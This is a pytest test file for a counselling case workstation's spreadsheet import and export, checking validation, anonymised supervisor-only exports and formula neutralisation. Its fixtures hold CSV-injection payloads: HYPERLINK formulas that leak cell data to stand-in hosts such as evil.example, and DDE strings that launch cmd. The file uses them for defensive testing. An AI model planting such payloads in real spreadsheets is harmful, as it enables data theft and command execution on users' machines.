"""Spreadsheets in and out: checked before anything is imported, formulas neutralised
on the way out, anonymised exports without personal data."""

import csv

import pytest

from tests.conftest import DEMO_UNTIL
from workstation.demo.generator import DEMO_PASSWORD, DemoSize, generate_demo
from workstation.domain.permissions import PermissionDenied
from workstation.errors import ValidationError
from workstation.persistence.database import DESK_DB_NAME, open_desk_database
from workstation.persistence.models import Case
from workstation.services import case_transfer, cases
from workstation.services.accounts import sign_in

GOOD = """client_name,client_phone,client_cnic,district,category,opened_on,narrative
Zqrubina Bibi,0345-0922001,42101-0092200-2,Karachi South,dv_physical,2025-03-04,Beaten by husband
روبینہ,0345-0922002,,Lahore,Khula (dissolution of marriage sought by wife),12/05/2024,خلع کا مقدمہ
"""
BAD = """client_name,client_phone,client_cnic,district,category,opened_on,narrative
Good Row,0345-0922003,,Quetta,dv_physical,2025-01-01,fine
Bad Cnic,0345-0922004,12345,Quetta,dv_physical,2025-01-01,x
Bad Date,,,Nowhere,dv_physical,2999-01-01,x
=HYPERLINK("http://evil/?"&A1),,,,no_such_category,,x
"""


@pytest.fixture
def desk(tmp_path):
    generate_demo(tmp_path / "d", DemoSize(contacts=100, cases=20, services=5,
                                           until=DEMO_UNTIL))
    database = open_desk_database(tmp_path / "d")
    users = {u: sign_in(database, u, DEMO_PASSWORD)
             for u in ("khi-counsellor1", "khi-supervisor1")}
    yield tmp_path, database, users
    database.close()


def _count(database):
    with database.uow() as uow:
        return uow.session.query(Case).count()


def test_a_clean_file_imports_sealed_with_its_own_dates(desk):
    folder, database, users = desk
    me = users["khi-counsellor1"]
    (folder / "good.csv").write_text(GOOD, encoding="utf-8")
    report = case_transfer.import_cases(database, me, folder / "good.csv")
    assert (report.rows, report.valid, report.imported, report.problems) == (2, 2, 2, [])
    opened = [cases.open_case(database, me, case_id) for case_id in _ids(database, report)]
    assert {o.persons[0].name for o in opened} == {"Zqrubina Bibi", "روبینہ"}
    assert {o.opened_at.year for o in opened} == {2025, 2024}
    assert {o.category_code for o in opened} == {"dv_physical", "fam_khula"}
    assert {o.district_code for o in opened} == {"SD-KHS", "PB-LHR"}
    assert b"Zqrubina" not in (folder / "d" / DESK_DB_NAME).read_bytes()


def _ids(database, report):
    from sqlalchemy import select

    with database.uow() as uow:
        return list(uow.session.scalars(select(Case.id).where(
            Case.reference.in_(report.references))))


def test_a_file_with_errors_imports_nothing_and_says_where(desk):
    folder, database, users = desk
    (folder / "bad.csv").write_text(BAD, encoding="utf-8")
    before = _count(database)
    report = case_transfer.import_cases(database, users["khi-counsellor1"], folder / "bad.csv")
    assert report.imported == 0 and _count(database) == before
    where = {(p.row, p.field) for p in report.problems}
    assert (3, "client_cnic") in where
    assert (4, "district") in where or (4, "opened_on") in where
    assert (5, "category") in where
    assert all("0345" not in str(p) for p in report.problems)


def test_valid_rows_only_when_asked(desk):
    folder, database, users = desk
    (folder / "bad.csv").write_text(BAD, encoding="utf-8")
    before = _count(database)
    report = case_transfer.import_cases(database, users["khi-counsellor1"],
                                        folder / "bad.csv", valid_only=True)
    assert report.imported == 1 and _count(database) == before + 1


def test_other_encodings_and_xlsx(desk):
    folder, database, users = desk
    me = users["khi-counsellor1"]
    (folder / "cp1252.csv").write_bytes("client_name,narrative\nJosé,café\n".encode("cp1252"))
    with pytest.raises(ValidationError, match="not UTF-8"):
        case_transfer.import_cases(database, me, folder / "cp1252.csv")
    (folder / "utf16.csv").write_bytes(GOOD.encode("utf-16"))
    assert case_transfer.import_cases(database, me, folder / "utf16.csv").imported == 2
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    for row in csv.reader(GOOD.splitlines()):
        sheet.append(row)
    book.save(folder / "cases.xlsx")
    assert case_transfer.import_cases(database, me, folder / "cases.xlsx").imported == 2
    (folder / "broken.xlsx").write_bytes(b"PK\x03\x04 not really")
    with pytest.raises(ValidationError, match="not a readable XLSX"):
        case_transfer.import_cases(database, me, folder / "broken.xlsx")


def test_export_is_for_supervisors_audited_and_neutralises_formulas(desk):
    folder, database, users = desk
    me, supervisor = users["khi-counsellor1"], users["khi-supervisor1"]
    cases.save_case(database, me, cases.CaseRecord(
        category_code="dv_physical", narrative="=cmd|' /C calc'!A0",
        persons=[cases.PersonOnCase(role="client", name="@SUM(1+1)",
                                    phone="0345-0922099")]))
    with pytest.raises(PermissionDenied):
        case_transfer.export_cases(database, me, folder / "x.csv")
    full = case_transfer.export_cases(database, supervisor, folder / "full.csv",
                                      anonymised=False)
    rows = list(csv.DictReader((folder / "full.csv").open(encoding="utf-8-sig")))
    assert len(rows) == full > 0
    planted = next(r for r in rows if r["client_phone"] == "+923450922099")
    assert planted["client_name"] == "'@SUM(1+1)"
    assert planted["narrative"].startswith("'=")
    anonymised = case_transfer.export_cases(database, supervisor, folder / "anon.csv")
    text = (folder / "anon.csv").read_text(encoding="utf-8-sig")
    assert anonymised == full
    assert "0922099" not in text and "SUM" not in text and "reference" not in text
    assert text.splitlines()[0].startswith("row,opened_month,status")


@pytest.mark.parametrize("cell,out", [
    ("=HYPERLINK(\"x\")", "'=HYPERLINK(\"x\")"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("@SUM(1)", "'@SUM(1)"), ("-2+3", "'-2+3"), ("+923001234567", "+923001234567"),
    ("-5", "-5"), ("Ayesha", "Ayesha"), ("", "")])
def test_neutralise(cell, out):
    assert case_transfer.neutralise(cell) == out


def test_the_command_line_imports_and_exports(desk, secret_service):
    import subprocess
    import sys

    folder, _, _ = desk
    (folder / "good.csv").write_text(GOOD, encoding="utf-8")
    (folder / "bad.csv").write_text(BAD, encoding="utf-8")
    base = [sys.executable, "-m", "workstation", "--data-dir", str(folder / "d")]

    def run(*args, user="khi-counsellor1"):
        return subprocess.run(base + ["--as", user, "cases", *args, "--password-stdin"],
                              input="demo\n", capture_output=True, text=True)

    done = run("import", str(folder / "good.csv"))
    assert done.returncode == 0 and "Imported 2 of 2" in done.stdout, done.stderr
    refused = run("import", str(folder / "bad.csv"))
    assert refused.returncode == 2 and "nothing was imported" in refused.stderr
    assert "row 3, client_cnic" in refused.stderr
    denied = run("export", str(folder / "out.csv"))
    assert denied.returncode == 6
    exported = run("export", str(folder / "out.csv"), user="khi-supervisor1")
    assert exported.returncode == 0 and "anonymised" in exported.stdout


def test_a_copied_database_does_not_act_as_its_desk_on_the_command_line(desk,
                                                                         secret_service):
    import subprocess
    import sys

    import keyring

    folder, database, _ = desk
    from workstation.crypto.keyring_store import DeskSecretStore
    from workstation.services.desk_identity import ensure_desk

    desk_id = ensure_desk(database, DeskSecretStore())
    keyring.delete_password("Counsellor Workstation", f"desk-secret:{desk_id}")
    run = subprocess.run([sys.executable, "-m", "workstation", "--data-dir", str(folder / "d"),
                          "--as", "khi-counsellor1", "callbacks", "list", "--password-stdin"],
                         input="demo\n", capture_output=True, text=True)
    assert run.returncode == 5 and "another computer or user account" in run.stderr


def test_a_supervisor_reads_the_trail_of_a_case_on_the_command_line(desk, secret_service):
    import subprocess
    import sys

    folder, database, users = desk
    saved = cases.save_case(database, users["khi-counsellor1"], cases.CaseRecord(
        category_code="dv_physical", persons=[cases.PersonOnCase(role="client")]))
    base = [sys.executable, "-m", "workstation", "--data-dir", str(folder / "d")]
    shown = subprocess.run(base + ["--as", "khi-supervisor1", "audit", "show", "--case",
                                   saved.reference, "--password-stdin"],
                           input="demo\n", capture_output=True, text=True)
    assert shown.returncode == 0, shown.stderr
    assert "case_created" in shown.stdout
    denied = subprocess.run(base + ["--as", "khi-counsellor1", "audit", "show", "--user",
                                    "khi-counsellor1", "--password-stdin"],
                            input="demo\n", capture_output=True, text=True)
    assert denied.returncode == 6 and "may not read the audit trail" in denied.stderr


HOSTILE = ('\ufeffclient_name,client_phone,district,category,opened_on,narrative\n'
           '"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",0345-0922101,Karachi South,'
           'dv_physical,2025-02-03,"paid \u202e0001\u202c rupees\x07"\n'
           '"+cmd|\' /C calc\'!A0",0345-0922102,Karachi South,dv_physical,2025-02-04,'
           + "x" * 25_000 + "\n")


def test_a_hostile_file_keeps_formulas_as_text_strips_controls_and_refuses_a_huge_cell(desk):
    """Formula injection, bidi overrides and control characters, a cell far longer than
    any field, behind a UTF-8 byte-order mark (Excel's "CSV UTF-8")."""
    folder, database, users = desk
    me, supervisor = users["khi-counsellor1"], users["khi-supervisor1"]
    (folder / "hostile.csv").write_text(HOSTILE, encoding="utf-8")
    before = _count(database)
    report = case_transfer.import_cases(database, me, folder / "hostile.csv")
    assert report.imported == 0 and _count(database) == before      # nothing half-way
    assert [(p.row, p.field) for p in report.problems] == [(3, "narrative")]
    assert "at most 20,000 characters" in report.problems[0].message
    report = case_transfer.import_cases(database, me, folder / "hostile.csv",
                                        valid_only=True)
    assert report.imported == 1
    (imported,) = [cases.open_case(database, me, i) for i in _ids(database, report)]
    # Kept as the text it is (sealed like any name), never evaluated; the override and
    # the bell are gone.
    assert imported.persons[0].name == '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert imported.narrative == "paid 0001 rupees"
    case_transfer.export_cases(database, supervisor, folder / "out.csv", anonymised=False)
    rows = list(csv.DictReader((folder / "out.csv").open(encoding="utf-8-sig")))
    exported = next(r for r in rows if r["client_phone"] == "+923450922101")
    assert exported["client_name"].startswith("'=HYPERLINK(")          # inert in Excel
